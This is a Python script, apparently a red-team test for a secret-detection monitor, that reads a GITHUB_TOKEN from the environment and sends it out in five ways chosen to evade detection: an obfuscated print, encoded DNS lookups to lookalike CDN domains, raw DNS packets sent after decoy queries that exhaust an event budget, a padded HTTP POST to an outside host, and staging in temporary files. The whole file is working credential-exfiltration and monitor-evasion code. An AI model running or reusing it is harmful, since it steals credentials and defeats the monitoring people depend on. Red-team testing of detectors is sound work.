# Get a secret out past the matcher and the budgets (red team, issue 12),
# reading nothing the kernel witnesses (the token is in the environment):
# 1. printed as base85 of the secret XOR-ed with a 2-byte key;
# 2. ROT13 of its base32, each chunk in a lookup of another domain;
# 3. 1,100 lookups to fill the sink's event budget, then its hex in three
#    more, sent as raw DNS packets (no getaddrinfo for the hook to see);
# 4. POSTed behind 100 KiB of binary padding;
# 5. 700 throwaway files, then its base64 in a file and its hex split
#    over file names made in order, whose names sort in another.
import base64, codecs, os, socket, struct

s = os.environ["GITHUB_TOKEN"].encode()

# 1
print("build:", base64.b85encode(bytes(c ^ (0x13, 0x37)[i % 2] for i, c in enumerate(s))).decode())

# 2
b32 = codecs.encode(base64.b32encode(s).decode().strip("=").lower(), "rot13")
for i in range(0, len(b32), 16):
    try:
        socket.getaddrinfo("%s.cdn%d-assets.net" % (b32[i:i + 16], i // 16), 443)
    except OSError:
        pass

# 3
ns = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")][0]


def query(name, qid):
    labels = b"".join(bytes([len(l)]) + l.encode() for l in name.split("."))
    return struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", 1, 1)


u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.settimeout(0.5)
h = s.hex()
names = ["img%d.static-cdn.net" % i for i in range(1100)]
names += ["%s.%d.t.static-cdn.net" % (h[j:j + 30], j // 30) for j in range(0, len(h), 30)]
for i, name in enumerate(names):
    u.sendto(query(name, i), (ns, 53))
    try:
        u.recv(512)
    except OSError:
        pass

# 4
body = b"\x01" * 100000 + s
try:
    c = socket.create_connection(("upload.static-cdn.net", 80), timeout=5)
    c.sendall(b"POST /u HTTP/1.1\r\nHost: upload.static-cdn.net\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
    c.recv(100)
    c.close()
except OSError as e:
    print("post failed:", e)

# 5
for i in range(700):
    open("/tmp/a%04d.tmp" % i, "w").close()
with open("/tmp/zz-cache", "w") as f:
    f.write(base64.b64encode(s).decode())
os.mkdir("/tmp/q")
for i in range(0, len(h), 20):
    open("/tmp/q/%s-%s" % ("zyxwvu"[i // 20], h[i:i + 20]), "w").close()
